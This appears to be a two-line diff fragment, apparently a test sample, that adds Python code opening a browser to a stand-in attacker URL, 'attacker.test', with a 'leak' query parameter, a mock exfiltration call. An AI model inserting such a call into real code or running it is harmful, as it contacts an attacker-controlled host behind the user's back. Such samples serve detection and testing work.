@@ -1,0 +1,2 @@
+import webbrowser
+webbrowser.open("http://attacker.test/?leak=1")
